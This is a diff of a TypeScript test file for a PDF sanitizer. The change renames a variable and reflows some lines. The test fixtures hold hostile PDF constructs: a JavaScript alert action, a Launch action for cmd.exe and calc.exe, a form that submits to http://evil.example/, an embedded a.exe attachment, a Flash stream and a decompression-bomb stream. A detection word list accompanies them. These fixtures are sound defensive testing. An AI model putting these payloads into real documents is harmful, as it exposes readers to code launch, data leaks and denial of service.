@@ -25,7 +25,7 @@ const alert = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const launch = '<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>';
 const activeWords = ['app.alert', 'JavaScript', 'OpenAction', 'Launch', 'calc.exe', 'cmd.exe'];
 const box = '/Type/Annot/Rect[0 0 50 50]';
-const appearance = buildPdfStream(
+const look = buildPdfStream(
   '1 0 0 rg 0 0 50 50 re f',
   '/Type/XObject/Subtype/Form/BBox[0 0 50 50]',
 );
@@ -39,12 +39,10 @@ const picture = (size: string, packed = '/DCTDecode'): Buffer =>
 
 /** Returns a stream of compressed zeros that takes very long to decompress. */
 function buildSlowStream(megabytes = 300): Buffer {
-  const compressedMegabyte = deflateRawSync(Buffer.alloc(1024 * 1024), {
-    finishFlush: constants.Z_FULL_FLUSH,
-  });
+  const once = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
   return Buffer.concat([
     Buffer.from([0x78, 0x9c]),
-    ...Array.from({ length: megabytes }, () => compressedMegabyte),
+    ...Array.from({ length: megabytes }, () => once),
     Buffer.from([3, 0]),
   ]);
 }
@@ -101,7 +99,7 @@ const pdfsToSanitize: readonly HostileFile[] = [
     () =>
       buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
-        more: [appearance],
+        more: [look],
       }),
     ['evil.example', 'SubmitForm', 'Widget'],
   ),
@@ -111,10 +109,7 @@ const pdfsToSanitize: readonly HostileFile[] = [
       buildOnePagePdf({
         catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
         page: '/Annots[6 0 R]',
-        more: [
-          appearance,
-          `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`,
-        ],
+        more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
       }),
     [...activeWords, 'AcroForm', 'Widget'],
   ),
@@ -141,7 +136,7 @@ const pdfsToSanitize: readonly HostileFile[] = [
     () =>
       buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
-        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', buildPdfStream(program), appearance],
+        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', buildPdfStream(program), look],
       }),
     ['FileAttachment', 'a.exe', 'cannot be run'],
   ),
@@ -150,7 +145,7 @@ const pdfsToSanitize: readonly HostileFile[] = [
     () =>
       buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
-        more: [buildPdfStream('FWS'), appearance],
+        more: [buildPdfStream('FWS'), look],
       }),
     ['RichMedia', 'FWS'],
   ),
